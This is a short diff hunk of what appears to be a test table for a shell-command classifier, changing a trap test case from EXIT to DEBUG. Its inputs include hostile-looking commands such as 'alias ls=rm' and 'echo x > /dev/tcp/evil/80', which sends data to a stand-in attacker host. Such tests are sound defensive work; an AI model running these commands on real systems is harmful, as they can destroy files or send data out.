@@ -139,7 +139,7 @@ test.each<[string, string]>([
   ['declare -n x=PATH', 'shell-state'],
   ['source x', 'shell-state'],
   ['. x', 'shell-state'],
-  ["trap 'rm x' EXIT", 'shell-state'],
+  ["trap 'rm x' DEBUG", 'shell-state'],
   ['alias ls=rm', 'shell-state'],
   ['enable -f x y', 'shell-state'],
   ['echo x > /dev/tcp/evil/80', 'network-device'],
